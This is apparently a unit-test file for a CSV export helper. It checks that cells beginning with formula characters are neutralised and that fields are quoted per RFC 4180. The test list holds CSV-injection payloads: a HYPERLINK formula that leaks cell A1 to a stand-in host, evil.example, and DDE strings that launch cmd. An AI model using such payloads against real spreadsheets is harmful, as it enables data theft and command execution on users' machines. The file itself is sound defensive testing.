import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvCell, csvRecord } from '../../src/util/csv.ts';

test('text starting with a formula character gets a leading single quote', () => {
  const payloads = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klick")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];
  for (const payload of payloads) {
    const cell = csvCell(payload);
    const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
    assert.equal(unquoted, `'${payload}`, JSON.stringify(payload));
  }
  assert.equal(csvCell('=1+1'), "'=1+1");
  assert.equal(csvCell('-5'), "'-5", 'a negative amount as text is neutralised too');
});

test('harmless text stays as it is; formula characters later in a cell are harmless', () => {
  for (const text of ['', 'Huhn', 'a=b', '12.99 EUR', "'=schon neutral", ' =1+1', 'Hund > Nassfutter']) {
    assert.equal(csvCell(text), text);
  }
});

test('quotes, commas and line breaks are quoted per RFC 4180', () => {
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('sag "Wuff"'), '"sag ""Wuff"""');
  assert.equal(csvCell('Zeile 1\nZeile 2'), '"Zeile 1\nZeile 2"');
  assert.equal(csvCell('Zeile 1\r\nZeile 2'), '"Zeile 1\r\nZeile 2"');
  // Neutralised and quoted: the quote goes inside the field.
  assert.equal(csvCell('=A1,"x"'), '"\'=A1,""x"""');
  assert.equal(csvCell('\r\n=1'), '"\'\r\n=1"');
});

test('control characters are dropped before the first character is judged', () => {
  assert.equal(csvCell('a\u0001b\u001f'), 'ab');
  assert.equal(csvCell('\u0000=1+1'), "'=1+1");
  assert.equal(csvCell('\u0007\t'), "'\t");
});

test('numbers stay numbers, negative ones included; null and undefined are empty cells', () => {
  assert.equal(csvCell(-3), '-3');
  assert.equal(csvCell(12.5), '12.5');
  assert.equal(csvCell(0), '0');
  assert.equal(csvCell(Number.NaN), '');
  assert.equal(csvCell(Number.NEGATIVE_INFINITY), '');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell(undefined), '');
});

test('a record is its cells joined by commas and ended by CRLF', () => {
  assert.equal(csvRecord(['id', '=1', 'a,b', -1, null]), 'id,\'=1,"a,b",-1,\r\n');
});
